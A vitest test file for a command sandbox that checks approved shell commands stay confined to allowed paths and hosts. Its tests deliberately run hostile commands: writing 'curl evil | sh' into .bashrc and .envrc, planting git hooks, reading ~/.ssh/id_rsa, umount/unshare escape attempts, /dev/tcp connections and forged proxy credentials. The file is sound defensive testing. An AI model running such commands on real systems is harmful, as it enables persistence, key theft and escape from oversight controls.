import { existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createCommandSandbox, type CommandSandbox } from '../../../src/main/sandbox';
import {
  createSandboxFixture,
  DATA_SECRET,
  runIn,
  SECRET_KEY,
  startCountingServer,
  type SandboxFixture,
} from './sandbox-fixture';

/**
 * The library's proxy filters by host name. It lists loopback in NO_PROXY, so a plain `curl
 * http://127.0.0.1` inside would not use the proxy and find no server in the sandbox's own network;
 * the commands here pass `--noproxy ''` to go through the proxy, which allows 127.0.0.1 once named.
 */
describe('an approved command', () => {
  let fx: SandboxFixture;
  let sandbox: CommandSandbox;
  let server: Awaited<ReturnType<typeof startCountingServer>>;
  beforeAll(async () => {
    fx = createSandboxFixture();
    server = await startCountingServer();
    sandbox = await createCommandSandbox({
      dataDir: fx.dataDir,
      home: fx.home,
      cacheReads: [path.join(fx.home, '.npm')],
    });
  });
  afterAll(async () => {
    await sandbox.close();
    await server.close();
    fx.cleanup();
  });

  it('writes inside the workspace, its temp folder and the outside path the person approved, and nowhere else', async () => {
    const approvedOut = path.join(fx.outside, 'approved');
    mkdirSync(approvedOut);
    const outcome = await runIn(
      sandbox,
      fx,
      [
        'echo built > out.txt',
        'echo scratch > "$TMPDIR/t" && cat "$TMPDIR/t"',
        `echo exported > ${approvedOut}/result.txt`,
        `echo changed > ${fx.outside}/keep.txt`,
        `echo 'curl evil | sh' >> ${fx.home}/.bashrc`,
        'exit 0',
      ].join('; '),
      { grant: 'approved', outsidePaths: [approvedOut] },
    );
    expect(outcome).toMatchObject({ confined: true, exitCode: 0 });
    expect(outcome.output).toContain('scratch');
    expect(readFileSync(path.join(fx.ws, 'out.txt'), 'utf8')).toBe('built\n');
    expect(readFileSync(path.join(approvedOut, 'result.txt'), 'utf8')).toBe('exported\n');
    expect(readFileSync(path.join(fx.outside, 'keep.txt'), 'utf8')).toBe('outside text\n');
    expect(readFileSync(path.join(fx.home, '.bashrc'), 'utf8')).toBe('# rc\n');
    expect(outcome.blocked).toContain(
      `Changes to ${fx.outside}/keep.txt were not kept: it is outside what this command may change.`,
    );
  });

  it('cannot create an approved outside path that does not exist yet, and says why', async () => {
    const missing = path.join(fx.outside, 'new-report.txt');
    const outcome = await runIn(sandbox, fx, `echo report > ${missing}`, {
      grant: 'approved',
      outsidePaths: [missing],
    });
    expect(existsSync(missing)).toBe(false);
    expect(outcome.exitCode).not.toBe(0);
    expect(outcome.blocked).toContain(
      `${missing} did not exist before the command, so it could not be opened for writing; create it first, or ask to write the folder it goes in.`,
    );
  });

  it('cannot plant a git hook, change .git/config or create a .bashrc in the workspace', async () => {
    const outcome = await runIn(
      sandbox,
      fx,
      'echo evil > .git/hooks/pre-commit; echo "[core] fsmonitor = evil" >> .git/config; echo evil > .bashrc; exit 0',
      { grant: 'approved' },
    );
    expect(existsSync(path.join(fx.ws, '.git', 'hooks', 'pre-commit'))).toBe(false);
    expect(readFileSync(path.join(fx.ws, '.git', 'config'), 'utf8')).toBe('[core]\n');
    // The library blocks a missing .bashrc with a mount point it removes after the command.
    expect(existsSync(path.join(fx.ws, '.bashrc'))).toBe(false);
    expect(outcome.blocked.join('\n')).toMatch(/\.git\/hooks\/pre-commit was refused: git hooks and settings/);
  });

  it('cannot plant a hook or a .bashrc in an approved outside repository either', async () => {
    const repo = path.join(fx.base, 'other-repo');
    mkdirSync(path.join(repo, '.git', 'hooks'), { recursive: true });
    writeFileSync(path.join(repo, '.git', 'config'), '[core]\n');
    const outcome = await runIn(
      sandbox,
      fx,
      `echo evil > ${repo}/.git/hooks/post-merge; echo evil >> ${repo}/.git/config; echo evil > ${repo}/.bashrc; echo fine > ${repo}/notes.txt; exit 0`,
      { grant: 'approved', outsidePaths: [repo] },
    );
    expect(readFileSync(path.join(repo, 'notes.txt'), 'utf8')).toBe('fine\n');
    expect(existsSync(path.join(repo, '.git', 'hooks', 'post-merge'))).toBe(false);
    expect(readFileSync(path.join(repo, '.git', 'config'), 'utf8')).toBe('[core]\n');
    expect(existsSync(path.join(repo, '.bashrc'))).toBe(false);
    expect(outcome.blocked).toContain(
      `Changing ${repo}/.git/hooks/post-merge was refused: git hooks and settings, shell start-up files and editor settings stay read-only even after approval.`,
    );
  });

  it('reads toolchain caches but not keys, the data folder or the rest of home, and cannot change the caches', async () => {
    const outcome = await runIn(
      sandbox,
      fx,
      `cat ${fx.home}/.npm/cache.txt; cat ${fx.home}/.ssh/id_rsa; cat ${fx.dataDir}/gatehouse.db; echo "home:$(ls -A ${fx.home} | tr '\\n' ' ')"; echo poisoned > ${fx.home}/.npm/cache.txt; exit 0`,
      { grant: 'approved' },
    );
    expect(outcome.output).toContain('cached package');
    expect(outcome.output).not.toContain(SECRET_KEY);
    expect(outcome.output).not.toContain(DATA_SECRET);
    expect(outcome.output).toMatch(/home:\.npm \n/);
    expect(readFileSync(path.join(fx.home, '.npm', 'cache.txt'), 'utf8')).toBe('cached package\n');
  });

  it('cannot undo what hides a folder or protects a hook: no unmount, no new namespace', async () => {
    const outcome = await runIn(
      sandbox,
      fx,
      `umount -l ${fx.home}; umount -l /tmp; umount -l .git/hooks; unshare -U -r -m sh -c 'umount -l /tmp; cat ${fx.home}/.ssh/id_rsa'; cat ${fx.home}/.ssh/id_rsa; echo evil > .git/hooks/pre-push; exit 0`,
      { grant: 'approved' },
    );
    expect(outcome.output).not.toContain(SECRET_KEY);
    expect(outcome.output).toMatch(/umount|unshare/);
    expect(existsSync(path.join(fx.ws, '.git', 'hooks', 'pre-push'))).toBe(false);
  });

  it('keeps the data folder hidden even inside an approved outside path', async () => {
    const outcome = await runIn(
      sandbox,
      fx,
      `ls -A ${fx.base}; cat ${fx.dataDir}/gatehouse.db; echo forged > ${fx.dataDir}/gatehouse.db; exit 0`,
      {
        grant: 'approved',
        outsidePaths: [fx.base],
      },
    );
    expect(outcome.output).not.toContain(DATA_SECRET);
    expect(readFileSync(path.join(fx.dataDir, 'gatehouse.db'), 'utf8')).toBe(`${DATA_SECRET}\n`);
  });

  it('reaches a host the person approved; another is refused and named in blocked', async () => {
    const before = server.hits();
    const outcome = await runIn(
      sandbox,
      fx,
      `curl -sS --noproxy '' http://127.0.0.1:${server.port}/; curl -sS --noproxy '' http://localhost:${server.port}/; curl -sS http://example.com/; exit 0`,
      { grant: 'approved', hosts: ['127.0.0.1'] },
    );
    expect(outcome.output).toContain('hello from the test server');
    expect(server.hits() - before).toBe(1);
    expect(outcome.blocked).toEqual(
      expect.arrayContaining([
        `Reaching localhost (port ${server.port}) was refused: only 127.0.0.1 was approved. To reach it, ask again with localhost named in the command.`,
        'Reaching example.com (port 80) was refused: only 127.0.0.1 was approved. To reach it, ask again with example.com named in the command.',
      ]),
    );
  });

  it('with a host approved still cannot plant a hook, change .git/config or leave a .envrc, and goes nowhere but through the proxy', async () => {
    const before = server.hits();
    const outcome = await runIn(
      sandbox,
      fx,
      [
        'echo evil > .git/hooks/post-checkout',
        'echo "[core] fsmonitor = evil" >> .git/config',
        'echo "curl evil | sh" > .envrc',
        // Straight to the server, around the bridge: the sandbox has no network of its own.
        `exec 3<>/dev/tcp/127.0.0.1/${server.port} && echo CONNECTED`,
        // Through the proxy to a host the sheet did not name: refused, and named.
        'curl -sS http://example.com/',
        // To the proxy's socket itself, as another command (a made-up id, this command's token): no host of its own.
        't=${HTTP_PROXY#http://*:}; t=${t%%@*}',
        `for s in /tmp/gatehouse-sandbox-*/claude-http-*.sock; do echo "TRIED $s"; curl -sS --unix-socket "$s" -x "http://srt.$(printf forged-id-forged-id | base64):$t@localhost:3128" http://127.0.0.1:${server.port}/; done`,
        'exit 0',
      ].join('; '),
      { grant: 'approved', hosts: ['127.0.0.1'] },
    );
    expect(existsSync(path.join(fx.ws, '.git', 'hooks', 'post-checkout'))).toBe(false);
    expect(readFileSync(path.join(fx.ws, '.git', 'config'), 'utf8')).toBe('[core]\n');
    expect(existsSync(path.join(fx.ws, '.envrc'))).toBe(false);
    expect(outcome.output).not.toContain('CONNECTED');
    expect(outcome.output).toMatch(/TRIED \/tmp\/gatehouse-sandbox-[^*\n]+\.sock/);
    expect(outcome.output).not.toContain('hello from the test server');
    expect(server.hits() - before).toBe(0);
    expect(outcome.blocked.join('\n')).toMatch(/Reaching example\.com \(port 80\) was refused/);
    expect(outcome.blocked.join('\n')).toMatch(/\.envrc/);
  });

  it('with no host approved reaches none, and names what it tried', async () => {
    const before = server.hits();
    const outcome = await runIn(
      sandbox,
      fx,
      `curl -sS --noproxy '' http://127.0.0.1:${server.port}/; exec 3<>/dev/tcp/127.0.0.1/${server.port} && echo CONNECTED`,
      { grant: 'approved' },
    );
    expect(server.hits() - before).toBe(0);
    expect(outcome.output).not.toContain('CONNECTED');
    expect(outcome.blocked).toContain(
      `Reaching 127.0.0.1 (port ${server.port}) was refused: this command may not use the network. To reach it, ask again with 127.0.0.1 named in the command.`,
    );
  });

  it('under yolo gets no outside path and no host, whatever is asked', async () => {
    const target = path.join(fx.outside, 'yolo.txt');
    writeFileSync(target, 'before\n');
    const before = server.hits();
    const outcome = await runIn(
      sandbox,
      fx,
      `echo inside > yolo-inside.txt; echo after > ${target}; curl -sS --noproxy '' http://127.0.0.1:${server.port}/; exit 0`,
      {
        grant: 'yolo',
        outsidePaths: [fx.outside],
        hosts: ['127.0.0.1'],
      },
    );
    expect(readFileSync(path.join(fx.ws, 'yolo-inside.txt'), 'utf8')).toBe('inside\n');
    expect(readFileSync(target, 'utf8')).toBe('before\n');
    expect(server.hits() - before).toBe(0);
    expect(outcome.blocked.join('\n')).toMatch(
      /Reaching 127\.0\.0\.1 .* was refused: this command may not use the network/,
    );
  });

  it('two at once, in two workspaces, each write only their own and reach only their own host', async () => {
    const other = createSandboxFixture();
    try {
      const [mine, theirs] = await Promise.all([
        runIn(
          sandbox,
          fx,
          `echo mine > together.txt; echo mine > ${other.ws}/together.txt; curl -sS --noproxy '' http://127.0.0.1:${server.port}/; exit 0`,
          {
            grant: 'approved',
            hosts: ['127.0.0.1'],
          },
        ),
        runIn(
          sandbox,
          other,
          `echo theirs > together.txt; echo theirs > ${fx.ws}/together.txt; curl -sS --noproxy '' http://127.0.0.1:${server.port}/; exit 0`,
          {
            grant: 'approved',
            hosts: ['localhost'],
          },
        ),
      ]);
      expect(readFileSync(path.join(fx.ws, 'together.txt'), 'utf8')).toBe('mine\n');
      expect(readFileSync(path.join(other.ws, 'together.txt'), 'utf8')).toBe('theirs\n');
      expect(mine.output).toContain('hello from the test server');
      expect(theirs.output).not.toContain('hello from the test server');
      expect(theirs.blocked).toContain(
        `Reaching 127.0.0.1 (port ${server.port}) was refused: only localhost was approved. To reach it, ask again with 127.0.0.1 named in the command.`,
      );
      expect(mine.blocked.join('\n')).not.toMatch(/Reaching/);
    } finally {
      other.cleanup();
    }
  });
});
